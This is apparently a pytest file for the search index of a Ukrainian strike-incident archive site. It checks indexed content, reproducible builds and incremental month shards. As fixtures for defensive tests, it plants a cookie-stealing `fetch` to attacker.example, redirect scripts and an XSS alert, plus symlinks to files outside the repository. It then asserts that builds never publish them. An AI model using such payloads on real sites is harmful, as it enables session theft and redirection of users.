"""The search index: built from the archive model (each incident's own text, its date, regions and
key readings, its filter values), in shards of months of which a build writes only those whose
records changed; the same archive always gives the same index, byte for byte, whatever the last
build left."""

from __future__ import annotations

import errno
import json
import os
import random
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

import archive.incremental
import archive.search
import archive.search_index
from archive.pipeline import APP_DIR, Project, build, check
from archive.search import search_document, search_records
from archive.search_index import words_of
from conftest import REPO, TODAY, VALID_INCIDENT, TinyArchive, index_file_data
from test_pipeline import clean_build, random_edit

sys.path.insert(0, str(REPO / "bench"))
from generate import generate

SECOND_INCIDENT = (VALID_INCIDENT
                   .replace("title: Drone strike on Kyiv", "title: Missile strike on Lviv")
                   .replace("regions: [UA-30, UA-32]", "regions: [UA-46, UA-30]")
                   .replace("{name: Boryspil, region: UA-32}", "{name: Stryi, region: UA-46}")
                   .replace("claimed_by: Vitali Klitschko", "claimed_by: Andriy Sadovyi")
                   .replace("region: UA-30\n", "region: UA-46\n"))


def tree(folder: Path) -> dict[str, bytes]:
    return {path.relative_to(folder).as_posix(): path.read_bytes() for path in sorted(folder.rglob("*")) if path.is_file()}


WEAPON_FIGURE = """  - measure: drones_launched
    value: 40
    qualifier: exactly
    weapon: Geran-2
    claimed_by: Ukrainian Air Force
    source: mt
    excerpt: "Russia launched 40 Shahed drones overnight."
quotes:"""
# Words of an incident page that are the page's, not the incident's.
SCAFFOLDING = ["No figures recorded yet", "Regions", "What happened", "Figures", "Sources", "Corrections", "Cite this incident",
               "Places named", "Suggest a correction", "Permanent link", "Evidence assessment", "whole incident"]


def tiny_archive(root: Path) -> TinyArchive:
    tiny = TinyArchive(root)
    tiny.write("2025-06-06-drone-strike-on-kyiv")
    tiny.write("2025-06-07-missile-strike-on-lviv", SECOND_INCIDENT.replace("date: 2025-06-06", "date: 2025-06-07")
               .replace("published: 2025-06-06", "published: 2025-06-07"))
    return tiny


def tiny_site(root: Path) -> Path:
    build(tiny_archive(root).project, today=TODAY)
    return root / "site"


def index_of(site: Path) -> dict:
    """index.js's data: the shards and the filters' files."""
    data: dict = index_file_data((site / "search-index" / "index.js").read_text(encoding="ascii"))[2]
    return data


def documents(site: Path) -> list[list]:
    """Every document of the index, in the order of their numbers: [url, title, kind, ISO date, context, date, regions, readings]."""
    folder = site / "search-index" / "shards"
    return [index_file_data((folder / name / "docs" / f"{number}.js").read_text(encoding="ascii"))[2]
            for name, count, _words in index_of(site)["shards"] for number in range(count)]


def filter_counts(site: Path) -> dict[str, dict[str, int]]:
    """Each filter's values, with how many documents hold each."""
    counts = {}
    for name, key in index_of(site)["filters"]:
        values = index_file_data((site / "search-index" / "filters" / f"{key}.js").read_text(encoding="ascii"))[2]
        counts[name] = {value: len(gaps) for value, gaps in values}
    return counts


def record_written_shards(monkeypatch) -> list[str]:
    """The first month (or "pages") of each shard written from its records from now on, in a list that fills as they are."""
    written: list[str] = []
    real_shard_files = archive.search_index.shard_files

    def recording(name, shard_documents):
        written.append(name[:7] if not name.startswith("pages") else "pages")
        return real_shard_files(name, shard_documents)

    monkeypatch.setattr("archive.search.shard_files", recording)
    return written


# --- tests: what is indexed -----------------------------------------------------------------

def test_an_incident_is_indexed_by_its_own_text_never_its_pages_scaffolding(tiny):
    tiny.write("2025-06-06-drone-strike-on-kyiv", VALID_INCIDENT.replace("quotes:", WEAPON_FIGURE))
    tiny.write("2025-06-07-strike-without-figures", VALID_INCIDENT.replace("2025-06-06", "2025-06-07")
               .replace(VALID_INCIDENT[VALID_INCIDENT.index("figures:"):VALID_INCIDENT.index("quotes:")], "figures: []\n"))
    archive, _ = check(tiny.project, today=TODAY)
    assert archive is not None
    records = {record.url: record for record in search_records(archive)}
    kyiv = records["incidents/2025-06-06-drone-strike-on-kyiv/"]
    assert kyiv.content.startswith("Drones hit Kyiv overnight. ")  # the summary as text, without its Markdown
    for words in ("Ihor Klymenko, Interior Minister of Ukraine: \u201cThey worked under fire to help people.\u201d",
                  "Vitali Klitschko: \u201cAt least four people were killed and 20 wounded in the capital.\u201d",
                  "Boryspil", "Kyiv (Kiev", "Kyiv Oblast (Kiev Oblast", "Shahed-136 (one-way attack drone, Shahed, Geran-2, Geran)",
                  "The Moscow Times"):
        assert words in kyiv.content, words
    assert "Drone strike on Kyiv" not in kyiv.content  # the title is the result's title, searched as such
    assert kyiv.meta == {"title": "Drone strike on Kyiv", "date": "6 June 2025", "regions": "Kyiv, Kyiv Oblast",
                         "readings": "Killed: at least 4 (Ukraine)"}
    assert kyiv.filters == {"region": ["Kyiv", "Kyiv Oblast"], "place": ["Boryspil"], "year": ["2025"], "date": ["2025-06-06"],
                            "measure": ["Killed", "Drones launched"], "claimant": ["Vitali Klitschko", "Ukrainian Air Force"],
                            "weapon": ["Shahed-136"]}
    bare = records["incidents/2025-06-07-strike-without-figures/"]
    assert "readings" not in bare.meta
    assert set(bare.filters) == {"region", "place", "year", "date"}  # a filter with no values is left out, not written empty
    for record in (kyiv, bare):
        for word in SCAFFOLDING:
            assert word not in record.content, word
    region = records["regions/ua-32/"]  # found by its names and code, not by every word of its incidents
    assert (region.title, region.content, region.meta, region.filters) == (
        "Kyiv Oblast", "Kiev Oblast, Kiev region, Kyivska oblast \u00b7 UA-32", {"title": "Kyiv Oblast"}, {"kind": ["region"]})
    assert records["about/"].content == "Text of the about page." and records["about/"].filters == {}


def test_the_place_filter_holds_settlement_names_not_areas(tiny):
    located = ("  - {name: Boryspil, region: UA-32, lat: 50.35051, lon: 30.95263, precision: settlement, located_by: GeoNames 711660}\n"
               "  - {name: Brovary district, region: UA-32, lat: 50.5, lon: 30.9, precision: district}\n"
               "  - {name: Kyiv Oblast, region: UA-32, lat: 49.7994, lon: 30.1165, precision: region}\n"
               "  - {name: Kyiv, region: UA-30}\n")
    tiny.write("2025-06-06-drone-strike-on-kyiv", VALID_INCIDENT.replace("  - {name: Boryspil, region: UA-32}\n", located))
    archive, _ = check(tiny.project, today=TODAY)
    assert archive is not None
    [record] = [record for record in search_records(archive) if record.kind == "incident"]
    assert record.filters["place"] == ["Boryspil", "Kyiv"]  # a place without coordinates is a settlement all the same


def test_the_index_holds_the_records_with_their_details_and_filters(tmp_path):
    site = tiny_site(tmp_path / "archive")
    found = {document[0]: document for document in documents(site)}
    # Newest first (a region by its latest incident), in the archive's order within a day; the content pages last.
    assert list(found) == ["incidents/2025-06-07-missile-strike-on-lviv/", "regions/ua-30/", "regions/ua-46/",
                           "incidents/2025-06-06-drone-strike-on-kyiv/", "regions/ua-32/", "about/", "contribute/", "methodology/"]
    lviv = found["incidents/2025-06-07-missile-strike-on-lviv/"]
    assert lviv[1:4] == ["Missile strike on Lviv", "incident", "2025-06-07"]
    assert lviv[5:] == ["7 June 2025", "Lviv Oblast, Kyiv", "Killed: at least 4 (Andriy Sadovyi)"]  # no party in the registry: his own
    assert lviv[4].startswith("Drones hit Kyiv overnight. Ihor Klymenko")
    counts = filter_counts(site)
    # Filter counts are incidents: a region's own page is not one of its filter's pages.
    assert counts["region"] == {"Kyiv": 2, "Kyiv Oblast": 1, "Lviv Oblast": 1}
    assert set(counts["claimant"]) == {"Vitali Klitschko", "Andriy Sadovyi"}
    assert set(counts) == {"claimant", "date", "kind", "measure", "place", "region", "year"}  # no weapon: none has one
    assert counts["kind"] == {"region": 3} and counts["date"] == {"2025-06-06": 1, "2025-06-07": 1}
    [june, pages] = index_of(site)["shards"]
    assert june[0].startswith("2025-01-") and june[1] == 5 and pages[0].startswith("pages-") and pages[1] == 3  # the year's shard


# The filters both search pages show (static/search-common.js FILTER_NAMES), in this order, with these names.
FILTERS = {"region": "Region", "place": "Place", "year": "Year", "measure": "Measure", "claimant": "Claimant", "weapon": "Weapon"}


def test_both_search_pages_show_the_filters_the_index_has_in_one_order_with_one_name_each():
    names = "var FILTER_NAMES = " + json.dumps([[key, label] for key, label in FILTERS.items()]) + ";"
    assert names in (REPO / "static" / "search-common.js").read_text(encoding="utf-8")
    for page in ("search.html", "search_offline.html"):
        assert "static/search-common.js" in (REPO / "templates" / page).read_text(encoding="utf-8"), page


def test_search_documents_are_the_search_records_with_the_details_a_result_shows(tiny):
    """What the index holds of a record: its own text, date, regions and key readings, searched and shown."""
    tiny.write("2025-06-06-drone-strike-on-kyiv")
    archive, _ = check(tiny.project, today=TODAY)
    assert archive is not None
    documents = {document.url: document for document in map(search_document, search_records(archive))}
    kyiv = documents["incidents/2025-06-06-drone-strike-on-kyiv/"]
    assert kyiv.details == ["6 June 2025", "Kyiv, Kyiv Oblast", "Killed: at least 4 (Ukraine)"]
    assert kyiv.context.startswith("Drones hit Kyiv overnight. Ihor Klymenko, Interior Minister of Ukraine:")
    assert "No figures recorded yet" not in kyiv.text and "Regions" not in kyiv.text
    assert "2025" in words_of(kyiv.text) and "killed" in words_of(kyiv.text)  # its details are searched too
    assert documents["about/"].details == ["", "", ""]


# --- tests: the same archive, the same index ---------------------------------------------------

def test_a_shard_is_named_anew_when_the_code_that_writes_it_changes(tmp_path):
    """A browser may keep an index file as long as its name: a shard of content pages, whose records do not change with
    our code, gets a new name all the same when the code that writes its files (and so the records' version) does."""
    tiny = tiny_archive(tmp_path / "archive")
    archive_model, _ = check(tiny.project, today=TODAY)
    assert archive_model is not None
    entries = archive.search.entries_of(archive_model, "one")
    [*_dated, pages] = archive.search.split_in_shards(entries, "one")
    [*_dated, pages_again] = archive.search.split_in_shards(entries, "two")
    assert pages.name.startswith("pages-") and pages.name != pages_again.name
    assert archive.search.split_in_shards(entries, "one")[-1].name == pages.name


def test_two_builds_of_the_same_site_write_the_same_search_index(tmp_path):
    sites = [tiny_site(tmp_path / name) for name in ("one", "two")]
    first, second = (tree(site / "search-index") for site in sites)
    assert first == second
    assert "index.js" in first and any(name.startswith("filters/") for name in first)


@pytest.mark.slow
def test_a_generated_archive_built_twice_gives_the_same_index(tmp_path):
    """Enough pages (over 400) to be written by parallel workers, in an order that varies."""
    sites = []
    for name in ("one", "two"):
        root = tmp_path / name
        subprocess.run([sys.executable, str(REPO / "bench" / "generate.py"), "--incidents", "300", "--out", str(root)],
                       check=True, capture_output=True)
        build(Project(root=root), today=TODAY)
        sites.append(root / "site")
    first, second = (tree(site / "search-index") for site in sites)
    assert first == second
    assert len(documents(sites[0])) > 300 and len(index_of(sites[0])["shards"]) > 3


# --- tests: the index in month shards, written in part ----------------------------------------

def three_months(root: Path) -> TinyArchive:
    """An incident in April, May and June 2025 (three shards); May's is the one changed below."""
    tiny = TinyArchive(root)
    for day, title in (("2025-04-10", "Drone strike on Kyiv"), ("2025-05-12", "Strike on a Kyiv depot"), ("2025-06-06", "Drone strike on Boryspil")):
        slug = title.lower().replace(" ", "-")
        tiny.write(f"{day}-{slug}", VALID_INCIDENT.replace("date: 2025-06-06", f"date: {day}")
                   .replace("published: 2025-06-06", f"published: {day}").replace("title: Drone strike on Kyiv", f"title: {title}"))
    return tiny


def change_may(tiny: TinyArchive, change: str) -> None:
    may = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-a-kyiv-depot.yaml"
    text = may.read_text(encoding="utf-8")
    if change == "edit":
        may.write_text(text.replace("title: Strike on a Kyiv depot", "title: Strike on a Kyiv zebrafinch depot"), encoding="utf-8")
    elif change == "addition":
        tiny.write("2025-05-20-zebrafinch-shelling", text.replace("date: 2025-05-12", "date: 2025-05-20")
                   .replace("title: Strike on a Kyiv depot", "title: Zebrafinch shelling"))
    elif change == "removal":
        may.unlink()
    else:  # renamed: a new id, the old one kept for old links
        may.unlink()
        tiny.write("2025-05-12-zebrafinch-depot", text.replace("title: Strike on a Kyiv depot", "title: Zebrafinch depot")
                   .replace("corrections: []", "corrections: []\nprevious_ids: [2025-05-12-strike-on-a-kyiv-depot]"))


@pytest.mark.parametrize("change", ["edit", "addition", "removal", "rename"])
def test_a_change_writes_its_month_again_and_gives_the_index_a_clean_build_gives(tmp_path, monkeypatch, change):
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)  # a shard a month, as in a year of more than SHARD_RECORDS
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    site = tiny.root / "site"
    before = documents(site)
    kept = {name: (site / "search-index" / "shards" / name / "docs" / "0.js").stat().st_ino for name, _, _ in index_of(site)["shards"]}
    written = record_written_shards(monkeypatch)
    change_may(tiny, change)
    build(tiny.project, today=TODAY)
    # April, June and the content pages are the last build's, linked; May is gone once its only incident is.
    assert written == ([] if change == "removal" else ["2025-05"])
    for name, _, _ in index_of(site)["shards"]:
        if not name.startswith("2025-05"):
            assert (site / "search-index" / "shards" / name / "docs" / "0.js").stat().st_ino == kept[name]

    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")

    titles = [document[1] for document in documents(site)]
    if change == "removal":
        assert "Strike on a Kyiv depot" not in titles and len(titles) == len(before) - 1
    else:
        assert any("zebrafinch" in title.lower() for title in titles)
        assert ("Strike on a Kyiv depot" in titles) == (change == "addition")


def assert_the_index_of_a_clean_build(root: Path, clean: Path) -> None:
    """The search index in root's site/ holds the files a clean build of the same archive (in `clean`) writes, byte for byte."""
    shutil.copytree(root, clean, ignore=shutil.ignore_patterns("site", ".cache", "site-offline", ".git"))
    build(Project(root=clean), today=TODAY)
    assert tree(root / "site" / "search-index") == tree(clean / "site" / "search-index")


def test_a_site_that_came_with_the_repository_is_never_taken_into_the_new_index(tmp_path, monkeypatch):
    """A pull request can add site/ (git add -f), with an index named as a build of its tree would name it and a
    script of its own: a build with no cache that says the last build wrote that site indexes everything anew,
    publishing none of it."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    index = tiny.root / "site" / "search-index"
    planted = {index / "planted.js": b"fetch('https://attacker.example/' + document.cookie)"}
    for shard in (index / "shards").iterdir():
        planted[shard / "docs" / "0.js"] = b'ArchiveSearch.receive("docs","x",["https://attacker.example/","Planted"]);'
        planted[shard / "words" / "0.js"] = b'location = "https://attacker.example/";'
    for path, body in planted.items():
        path.unlink(missing_ok=True)
        path.write_bytes(body)
    shutil.rmtree(tiny.root / ".cache")  # as a fresh clone has none
    build(tiny.project, today=TODAY)
    published = tree(index)
    assert not [path for path, body in published.items() if body in planted.values()]
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_an_index_a_checkout_wrote_over_the_last_builds_is_never_taken_into_the_new_one(tmp_path, monkeypatch):
    """Checking out a branch that adds files to site/ (git add -f) writes them over the last build's, in place:
    whatever git tracks there is never linked into the next site, a page or the search index."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run(["git", "init", "-q"], cwd=tiny.root, check=True)
    (tiny.root / ".gitignore").write_text("site/\n.cache/\n")
    subprocess.run([*git, "add", "-A"], cwd=tiny.root, check=True)
    subprocess.run([*git, "commit", "-qm", "archive"], cwd=tiny.root, check=True)
    build(tiny.project, today=TODAY)
    site = tiny.root / "site"
    [april] = [shard for shard in (site / "search-index" / "shards").iterdir() if shard.name.startswith("2025-04")]
    planted = {april / "docs" / "0.js": b'location = "https://attacker.example/";',
               site / "incidents" / "2025-04-10-drone-strike-on-kyiv" / "index.html": b"<script>alert(1)</script>"}
    for path, body in planted.items():
        path.write_bytes(body)  # as git writes a checked-out file over an ignored one: in place
    subprocess.run([*git, "add", "-f", *map(str, planted)], cwd=tiny.root, check=True)
    subprocess.run([*git, "commit", "-qm", "a site of its own"], cwd=tiny.root, check=True)
    change_may(tiny, "edit")
    warnings = build(tiny.project, today=TODAY).warnings
    assert not [path for path, body in planted.items() if path.read_bytes() == body]
    [warning] = [warning for warning in warnings if "git rm -r --cached site" in warning.message]
    assert warning.path in {str(path.relative_to(tiny.root)) for path in planted} and warning.severity == "warning"
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_links_and_fifos_in_the_last_index_are_neither_followed_nor_published(tmp_path, monkeypatch):
    """What lies in site/ beside the last build's files is left out of the files the next build keeps from it."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    secret = tmp_path / "secret.txt"
    secret.write_text("the contents of a file outside the repository")
    index = tiny.root / "site" / "search-index"
    april = next(shard for shard in (index / "shards").iterdir() if shard.name.startswith("2025-04"))
    (april / "docs" / "9.js").symlink_to(secret)
    (index / "leak.js").symlink_to(secret)
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "secret.txt").write_text("the contents of a file outside the repository")
    (april / "linked-folder").symlink_to(elsewhere, target_is_directory=True)
    os.mkfifo(index / "pipe")
    change_may(tiny, "edit")
    build(tiny.project, today=TODAY)
    kept = [Path(folder) / name for folder, folders, files in os.walk(index) for name in folders + files]
    assert not [path for path in kept if path.is_symlink() or not (path.is_file() or path.is_dir())]
    assert not [path for path in kept if path.is_file() and b"outside the repository" in path.read_bytes()]
    assert {path.name for path in kept}.isdisjoint({"9.js", "leak.js", "linked-folder", "pipe"})
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


@pytest.mark.parametrize("planted", ["document: link", "document: fifo", "words: fifo", "words: missing", "words: folder link"])
def test_a_shard_of_the_last_index_without_all_its_regular_files_is_written_anew(tmp_path, monkeypatch, planted):
    """A shard the last build wrote is linked file by file: one of its files (or folders) that is a link, a FIFO or
    missing is neither followed, waited for nor published, and the shard is written anew instead."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)
    april = next(shard for shard in (tiny.root / "site" / "search-index" / "shards").iterdir() if shard.name.startswith("2025-04"))
    victim = april / ("docs" if planted.startswith("document") else "words") / "0.js"
    outside = tmp_path / "outside"  # the very file, outside the repository
    shutil.copyfile(victim, outside)
    if planted.endswith("folder link"):  # the shard's words folder, a link to its very copy outside the repository
        shutil.copytree(victim.parent, tmp_path / "words")
        shutil.rmtree(victim.parent)
        victim.parent.symlink_to(tmp_path / "words", target_is_directory=True)
        outside = tmp_path / "words" / "0.js"
    elif planted.endswith("link"):
        victim.unlink()
        victim.symlink_to(outside)
    elif planted.endswith("fifo"):
        victim.unlink()
        os.mkfifo(victim)
    else:
        victim.unlink()
    written = record_written_shards(monkeypatch)
    change_may(tiny, "edit")
    build(tiny.project, today=TODAY)
    assert sorted(written) == ["2025-04", "2025-05"]
    index = tiny.root / "site" / "search-index"
    kept = [Path(folder) / name for folder, _, files in os.walk(index) for name in files]
    assert all(path.is_file() and not path.is_symlink() for path in kept)
    assert not [path for path in kept if os.path.samefile(path, outside)]
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_a_file_system_without_hard_links_builds_the_index_a_clean_build_gives(tmp_path, monkeypatch):
    """Some file systems (FAT, exFAT, some shared folders) have no hard links: what a build keeps of the last one is copied."""
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 1)
    tiny = three_months(tmp_path / "archive")
    build(tiny.project, today=TODAY)

    def no_links(*arguments, **options):
        raise OSError(errno.EPERM, "Operation not permitted")

    with monkeypatch.context() as without_links:
        without_links.setattr(os, "link", no_links)
        for change in ("edit", "addition"):  # the second build keeps the first's index, which it copied
            change_may(tiny, change)
            build(tiny.project, today=TODAY)
    assert_the_index_of_a_clean_build(tiny.root, tmp_path / "clean")


def test_a_build_without_the_index_keeps_the_last_one_only_while_it_is_right(tmp_path, monkeypatch):
    """`build --no-search` keeps the last index when no page changed and its records would be the same: not after a
    change of what records hold and pages do not show (a weapon's aliases, which search finds), nor after one of our code."""
    tiny = three_months(tmp_path / "archive")
    data = tiny.root / "data"
    shutil.copytree(APP_DIR / "data", data)
    project = Project(root=tiny.root, data_dir=data)
    build(project, today=TODAY)
    index = tiny.root / "site" / "search-index"
    before = tree(index)
    may = tiny.root / "incidents" / "2025" / "2025-05-12-strike-on-a-kyiv-depot.yaml"
    may.write_text(may.read_text(encoding="utf-8") + "# a curator's note: no page shows it\n", encoding="utf-8")
    assert not build(project, today=TODAY, with_search=False).up_to_date
    assert tree(index) == before
    written = record_written_shards(monkeypatch)  # the index kept is still the one the next build takes shards from
    change_may(tiny, "edit")
    build(project, today=TODAY)
    assert written == ["2025-01"]  # (the year's shard: no more than SHARD_RECORDS in it)
    monkeypatch.undo()
    weapons = data / "weapons.yaml"
    weapons.write_text(weapons.read_text(encoding="utf-8").replace("aliases: [Shahed, Geran-2, Geran]", "aliases: [Shahed, Geran-2, Geran, Shahid]"),
                       encoding="utf-8")
    assert not build(project, today=TODAY, with_search=False).up_to_date
    assert not index.exists()  # the last index would not find Shahid: no index until a build makes one


@pytest.mark.slow
def test_random_edits_give_the_search_index_a_clean_build_gives(tmp_path, monkeypatch):
    """Edits of every kind a curator makes (test_pipeline.random_edit), each followed by a build with the
    index from the last build's model, as serve's are: each writes the shards it touches, and the index
    is a clean build's."""
    monkeypatch.setattr(archive.incremental, "RECENT_NS", 0)  # files just written are taken as unchanged when their stat is
    monkeypatch.setattr("archive.search.SHARD_RECORDS", 5)  # several shards a year
    root = tmp_path / "archive"
    generate(60, root, seed=11)
    model = build(Project(root=root), today=TODAY).archive
    written = record_written_shards(monkeypatch)
    rng = random.Random(5)
    for _ in range(8):
        edit = random_edit(root, rng)
        model = build(Project(root=root), today=TODAY, earlier=model).archive  # as serve builds: from the last model
        with monkeypatch.context() as clean:
            clean.setattr("archive.search.SHARD_RECORDS", 5)
            clean_build(root, tmp_path / "clean", with_search=True)
        assert tree(root / "site" / "search-index") == tree(tmp_path / "clean" / "site" / "search-index"), edit
    assert 0 < len(written) < 8 * len(index_of(root / "site")["shards"]) / 2  # most shards were the last build's
